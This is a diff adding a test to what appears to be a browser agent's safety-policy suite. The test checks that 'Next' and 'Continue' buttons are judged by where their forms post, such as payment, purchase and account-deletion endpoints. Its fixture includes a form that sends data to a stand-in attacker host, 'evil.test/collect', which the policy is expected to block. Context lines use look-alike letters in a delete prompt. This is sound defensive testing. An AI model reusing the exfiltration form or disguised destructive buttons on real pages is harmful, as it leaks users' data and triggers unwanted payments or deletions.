@@ -11,6 +11,7 @@ from playwright.async_api import Page
 from agent.browser.actions import parse_action
 from agent.browser.snapshot import Snapshotter
 from safety.policy import ConfirmLevel, SafetyPolicy
+from safety.rules import Decision
 from safety.text import fold, folded_forms, skeleton
 from tests.fixtures.browser import PagesServer
 
@@ -124,3 +125,47 @@ def test_look_alike_letters_in_page_text_and_dialogs(policy: SafetyPolicy) -> No
     assert policy.evaluate(parse_action({"action": "click", "index": 0}), obs).level is ConfirmLevel.CONFIRM
     asked = policy.evaluate_dialog("confirm", "D\u0435l\u0435t\u0435 all notes?", "http://127.0.0.1:9/notes")
     assert asked.level is ConfirmLevel.CONFIRM and asked.rule == "sensitive_dialog"
+
+
+FORMS = (
+    "<!doctype html><meta charset=utf-8><title>{title}</title>"
+    '<form action="/checkout/pay" method=post><input id=next type=submit value="Next"></form>'
+    '<form action="/account/delete" method=post><button id=cont>Continue</button></form>'
+    '<form action="/x"><button id=attr formaction="/orders/purchase">Go</button></form>'
+    '<form action="http://evil.test/collect" method=post><button id=away>Next</button></form>'
+    '<form action="/checkout/shipping" method=post><button id=ship>Next</button>'
+    "<button id=plain type=button>Back</button></form>"
+)
+
+
+@pytest.mark.parametrize("prefix", ["/checkout", "/notes"])
+async def test_a_submit_button_is_judged_by_where_its_form_goes(
+    page: Page, pages_server: PagesServer, policy: SafetyPolicy, prefix: str
+) -> None:
+    """A "Next" that posts its form to /checkout/pay pays: its label alone hid that from the policy."""
+    await page.goto(pages_server.add(prefix, FORMS.format(title=prefix.strip("/"))))
+    obs = await Snapshotter().snapshot(page)
+    by_id = {e.attrs.get("id"): e for e in obs.elements}
+
+    def decide(element_id: str) -> Decision:
+        return policy.evaluate(parse_action({"action": "click", "index": by_id[element_id].index}), obs)
+
+    sensitive = prefix == "/checkout"
+    for element_id, level, rule, said in [
+        ("next", "confirm" if sensitive else "auto", "sensitive_click", "its form goes to /checkout/pay"),
+        (
+            "cont",
+            "confirm" if sensitive else "notify",
+            "sensitive_click" if sensitive else "destructive_click",
+            "its form goes to /account/delete",
+        ),
+        ("attr", "confirm" if sensitive else "auto", "sensitive_click", "its form goes to /orders/purchase"),
+        ("away", "block", "blocked_domain", "sends its form to evil.test"),
+    ]:
+        decision = decide(element_id)
+        assert decision.level == level, (element_id, decision)
+        if level != "auto":
+            assert decision.rule == rule and any(said in r for r in decision.reasons), (element_id, decision)
+    for element_id in ("ship", "plain"):
+        assert decide(element_id).level is ConfirmLevel.AUTO, element_id
+    assert "formaction" not in by_id["plain"].attrs  # a type=button sends nothing
